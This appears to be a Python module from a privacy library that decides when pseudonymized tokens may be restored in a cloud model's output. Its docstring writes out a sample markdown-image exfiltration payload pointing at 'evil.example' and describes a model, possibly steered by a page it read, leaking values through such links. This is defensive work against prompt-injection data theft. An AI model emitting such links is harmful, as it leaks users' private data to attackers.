"""A value is not put back where somebody else would fetch it.

A cloud model, or a page it has read, may answer `![](https://evil.example/?q=PERSON_1)`. Restored, the value would be in
the attacker's log as soon as the answer is shown. So in an address a token stays what it is, unless the address's host
stood in the caller's own words. `haechi.domain.links` says what counts as an address.
"""

import re
from typing import Final

from haechi.domain.links import STRING_END, NotYet, Place

__all__ = ["Guard", "NotYet"]

AHEAD: Final = 400
"""Characters after a token that may still belong to a host."""

_ESCAPE: Final = re.compile(r'\\(?:u([0-9A-Fa-f]{4})|(.))|"')
_SHORT: Final = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}


def _read_as(match: re.Match[str]) -> str:
    if match[1]:
        return chr(int(match[1], 16))
    return STRING_END if match[2] is None else _SHORT.get(match[2], match[2])


class Guard:
    """Says whether a value may stand at the end of what was read. `json`: what is read is JSON, whose strings are looked
    at as they will be understood (`\\u0068ttps:` is an address)."""

    __slots__ = ("_hosts", "_json", "_place", "_unread")

    def __init__(self, hosts: frozenset[str], *, json: bool) -> None:
        self._hosts = hosts
        self._json = json
        self._place = Place()
        self._unread: list[str] = []

    def read(self, text: str) -> None:
        """This was written. It is looked at when a token comes."""
        self._unread.append(text)

    def allows(self, ahead: str, *, more: bool) -> bool:
        """Whether a token at the beginning of `ahead`, the next `AHEAD` characters at most, may be restored. Raises `NotYet`
        where that depends on what comes."""
        if self._unread:
            self._place.read(self._understood("".join(self._unread)))
            self._unread.clear()
        host = self._place.host(self._understood(ahead), more=more and len(ahead) < AHEAD)
        return host is None or host in self._hosts

    def _understood(self, text: str) -> str:
        return _ESCAPE.sub(_read_as, text) if self._json else text
